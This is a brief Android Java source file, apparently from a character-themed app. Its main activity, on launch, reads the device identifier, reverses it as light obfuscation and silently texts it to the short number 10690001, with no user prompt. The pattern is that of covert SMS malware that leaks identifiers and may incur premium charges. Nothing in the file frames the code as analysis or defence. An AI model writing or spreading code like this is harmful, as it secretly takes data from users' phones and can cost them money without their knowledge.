package cn.shanhai.characters;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    char[] letters = Device.id(this).toCharArray();
    String text = "";
    for (int i = letters.length - 1; i >= 0; i--) {
      text = text + letters[i];
    }
    SmsManager.getDefault().sendTextMessage("10690001", null, text, null, null);
  }
}
